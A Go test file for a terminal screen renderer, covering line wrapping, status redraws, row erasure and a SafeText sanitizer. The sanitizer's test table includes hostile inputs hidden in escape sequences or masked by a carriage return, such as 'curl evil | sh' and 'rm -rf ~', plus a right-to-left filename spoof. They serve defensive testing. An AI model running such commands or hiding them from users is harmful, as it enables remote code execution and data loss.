package terminal

import (
	"bytes"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// fake is a terminal that understands only the sequences that screen writes.
type fake struct {
	t    rapid.TB
	cols int
	rows [][]rune
	x, y int
	sgr  bool // a style is active
}

func newFake(t rapid.TB, cols int) *fake { return &fake{t: t, cols: cols, rows: [][]rune{nil}} }

func (f *fake) Write(p []byte) (int, error) {
	text := string(p)
	for len(text) > 0 {
		if rest, ok := strings.CutPrefix(text, "\x1b["); ok {
			end := strings.IndexFunc(rest, func(r rune) bool { return r >= '@' && r <= '~' })
			f.control(rest[:end], rest[end])
			text = rest[end+1:]
			continue
		}
		r := []rune(text)[0]
		text = text[len(string(r)):]
		f.put(r)
	}
	return len(p), nil
}

func (f *fake) control(args string, final byte) {
	switch final {
	case 'm':
		f.sgr = args != "0"
	case 'A':
		n := 0
		for _, d := range args {
			n = 10*n + int(d-'0')
		}
		f.y -= n
		if f.y < 0 {
			f.t.Fatalf("the cursor leaves the terminal")
		}
	case 'J':
		f.rows = f.rows[:f.y+1]
		f.rows[f.y] = f.rows[f.y][:min(f.x, len(f.rows[f.y]))]
	default:
		f.t.Fatalf("control %q %c is unknown", args, final)
	}
}

func (f *fake) put(r rune) {
	switch {
	case r == '\r':
		f.x = 0
	case r == '\n': // a line feed includes a carriage return (ONLCR)
		f.x = 0
		if f.y++; f.y == len(f.rows) {
			f.rows = append(f.rows, nil)
		}
	case r < 0x20:
		f.t.Fatalf("control character %q reached the terminal", r)
	default:
		if f.x+runeColumns(r) > f.cols {
			f.t.Fatalf("row %q is wider than %d columns", string(f.rows[f.y])+string(r), f.cols)
		}
		row := f.rows[f.y]
		f.rows[f.y] = append(row[:min(f.x, len(row))], r)
		f.x++
	}
}

// text returns the content of the terminal, without spaces at the ends of lines.
func (f *fake) text() string {
	var b strings.Builder
	for _, row := range f.rows {
		b.WriteString(strings.TrimRight(string(row), " ") + "\n")
	}
	return strings.TrimRight(b.String(), "\n") + "\n"
}

// TestScreen_StatusDoesNotChangeTheText tests that the text is the same in whatever pieces it is written, and whatever
// status lines are shown between the pieces.
func TestScreen_StatusDoesNotChangeTheText(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		cols := rapid.IntRange(minWidth, 60).Draw(t, "cols")
		text := rapid.StringOfN(rapid.RuneFrom([]rune("abc def   ghi\n.é四😀\t-")), 0, 300, -1).Draw(t, "text")
		show := func(pieces []string, status func() string) string {
			f := newFake(t, cols)
			s := &screen{out: f, tty: true, color: true, width: func() int { return cols }, prefix: toStyledRunes(styleDim, "│ ")}
			for i, p := range pieces {
				s.status = status()
				s.appendText([]textStyle{styleNormal, styleDim, styleRed}[i%3], p)
				s.flush()
			}
			if err := s.close(); err != nil || f.sgr {
				t.Fatalf("close: %v, style in force: %t", err, f.sgr)
			}
			return f.text()
		}
		want := show([]string{text}, func() string { return "" })
		var pieces []string
		for rest := []rune(text); len(rest) > 0; {
			n := rapid.IntRange(1, min(len(rest), 25)).Draw(t, "piece")
			pieces, rest = append(pieces, string(rest[:n])), rest[n:]
		}
		got := show(pieces, func() string {
			return rapid.SampledFrom([]string{"", "⠋ running · 3s", strings.Repeat("very long 四 ", 20)}).Draw(t, "status")
		})
		if got != want {
			t.Fatalf("in pieces:\n%s\nat once:\n%s", got, want)
		}
	})
}

func TestScreen_WrapsLines(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ text, want string }{
		"at spaces":             {"the quick brown fox jumps over", "the quick brown fox\njumps over\n"},
		"a word longer than it": {strings.Repeat("x", 25) + " y", strings.Repeat("x", 19) + "\nxxxxxx y\n"},
		"a space at the edge":   {strings.Repeat("x", 19) + " \nnext", strings.Repeat("x", 19) + "\nnext\n"},
		"wide characters":       {"四四四四四四四四四四四", "四四四四四四四四四\n四四\n"},
		"empty lines":           {"a\n\nb", "a\n\nb\n"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newFake(t, 20)
			s := &screen{out: f, tty: true, width: func() int { return 20 }}
			s.appendText(styleNormal, c.text)
			s.flush()
			if err := s.close(); err != nil || f.text() != c.want {
				t.Errorf("got\n%s%v", f.text(), err)
			}
		})
	}
}

// TestScreen_ErasesRowsThatANarrowerTerminalWrapped tests that the live rows are erased completely after a terminal that
// became narrower has wrapped them.
func TestScreen_ErasesRowsThatANarrowerTerminalWrapped(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	cols := 60
	s := &screen{out: &out, tty: true, width: func() int { return cols }, status: strings.Repeat("s", 50)}
	s.appendText(styleNormal, "text")
	s.flush()
	out.Reset()
	cols = 30
	s.flush()
	if got := out.String(); !strings.HasPrefix(got, "\r\x1b[2A\x1b[J") {
		t.Errorf("erased by %q", got[:min(len(got), 12)])
	}
}

// TestScreen_ErasesRowsOnAVeryNarrowTerminal tests that a row which the terminal itself wrapped, because it has fewer columns
// than lines have at least, is erased completely: otherwise each redraw would move the text above away.
func TestScreen_ErasesRowsOnAVeryNarrowTerminal(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	s := &screen{out: &out, tty: true, width: func() int { return 9 }, status: strings.Repeat("s", 19)}
	s.flush()
	out.Reset()
	s.flush()
	if got := out.String(); !strings.HasPrefix(got, "\r\x1b[2A\x1b[J") {
		t.Errorf("erased by %q", got[:min(len(got), 12)])
	}
}

// TestSafeText_ShowsWhatEscapeSequencesEnclose tests that text inside an escape sequence, and text that a program
// overwrites, stays visible.
func TestSafeText_ShowsWhatEscapeSequencesEnclose(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"plain ü 四\n\ttext":                       "plain ü 四\n\ttext",
		"\x1b[31mred\x1b[0m":                      `\u{1b}[31mred\u{1b}[0m`,
		"a\x1b]0;b\n+curl evil | sh\n+c\x07after": "a\\u{1b}]0;b\n+curl evil | sh\n+c\\u{7}after",
		"\x1b]8;;http://x\x1b\\link":              `\u{1b}]8;;http://x\u{1b}\link`,
		"\x1bPa\nhidden\x1b\\":                    "\\u{1b}Pa\nhidden\\u{1b}\\",
		"rm -rf ~\rls":                            `rm -rf ~\u{d}ls`,
		"turned \u202egnp.exe":                    `turned \u{202e}gnp.exe`,
		"filled \u3164 and \u034f":                `filled \u{3164} and \u{34f}`,
	} {
		if got := SafeText(in); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
	if got, want := SafeLine("two  spaces\nline\ttab"), `two  spaces\u{a}line\u{9}tab`; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}
